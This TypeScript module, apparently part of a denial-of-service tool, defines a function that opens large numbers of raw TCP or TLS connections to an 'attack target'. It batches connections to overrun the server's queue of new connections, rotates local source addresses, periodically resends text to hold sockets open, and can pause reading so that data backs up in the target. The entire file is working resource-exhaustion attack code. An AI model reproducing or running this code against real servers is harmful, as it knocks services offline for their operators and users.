import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import type { AttackTarget, RunningAttack } from './attack.ts';

/** What an attacker does with a connection. */
export interface Behaviour {
  /** Sent as soon as the connection is open. */
  readonly first: (place: number) => string | Buffer;
  /** Sent again and again. */
  readonly again?: { readonly text: string; readonly everyMs: number };
  /** Whether what comes back is read; otherwise it waits in the target. */
  readonly reads: boolean;
}

/** Connections that are being opened at once: more of them overrun the target's queue of new ones. */
const OPENING = 100;
/** How long one may take to open, in milliseconds. */
const OPEN_TIMEOUT_MS = 5000;

const statusLine = /^HTTP\/1\.1 (\d{3})/;

function openSocket({ url, addresses }: AttackTarget, place: number): Socket {
  const isTls = url.protocol === 'https:';
  const port = Number(url.port) || (isTls ? 443 : 80);
  const host = url.hostname.replace(/^\[|\]$/g, '');
  const localAddress = addresses.length === 0 ? undefined : addresses[place % addresses.length];
  const options = { host, port, ...(localAddress !== undefined && { localAddress }) };
  return isTls ? connectTls({ ...options, servername: host }) : connect(options);
}

/** Resolves when the connection is open, or will not open. */
function settle(socket: Socket): Promise<void> {
  return new Promise((resolve) => {
    const done = () => {
      clearTimeout(timer);
      resolve();
    };
    const timer = setTimeout(done, OPEN_TIMEOUT_MS);
    socket.once('connect', done).once('close', done);
  });
}

/**
 * Opens many raw connections that all behave alike.
 *
 * @param target - what is attacked
 * @param behaviour - what each connection does
 * @returns once each was tried
 */
export async function openConnections(target: AttackTarget, behaviour: Behaviour): Promise<RunningAttack> {
  const open = new Set<Socket>();
  const answers = new Map<number, number>();
  let tried = 0;
  let sentBytes = 0;

  function send(socket: Socket, bytes: string | Buffer): void {
    sentBytes += bytes.length;
    socket.write(bytes);
  }

  function readAnswers(socket: Socket): void {
    socket.on('data', (chunk: Buffer) => {
      const status = Number(statusLine.exec(chunk.toString('latin1', 0, 12))?.[1]);
      if (!Number.isNaN(status)) answers.set(status, (answers.get(status) ?? 0) + 1);
    });
  }

  async function openOne(place: number): Promise<void> {
    const socket = openSocket(target, place);
    tried += 1;
    // A target that ends connections resets them.
    socket.on('error', () => undefined);
    socket.once('connect', () => {
      open.add(socket);
      send(socket, behaviour.first(place));
    });
    socket.once('close', () => open.delete(socket));
    if (behaviour.reads) readAnswers(socket);
    else socket.pause();
    await settle(socket);
  }

  for (let place = 0; place < target.connections; place += OPENING) {
    const count = Math.min(OPENING, target.connections - place);
    await Promise.all(Array.from({ length: count }, (_, i) => openOne(place + i)));
  }
  const { again } = behaviour;
  const timer =
    again &&
    setInterval(() => {
      for (const socket of open) send(socket, again.text);
    }, again.everyMs);
  return {
    state: () => ({ tried, open: open.size, sentBytes, answers }),
    async stop() {
      clearInterval(timer);
      for (const socket of open) socket.destroy();
      // Each tells its end in a turn of its own.
      while (open.size > 0) await sleep(1);
    },
  };
}
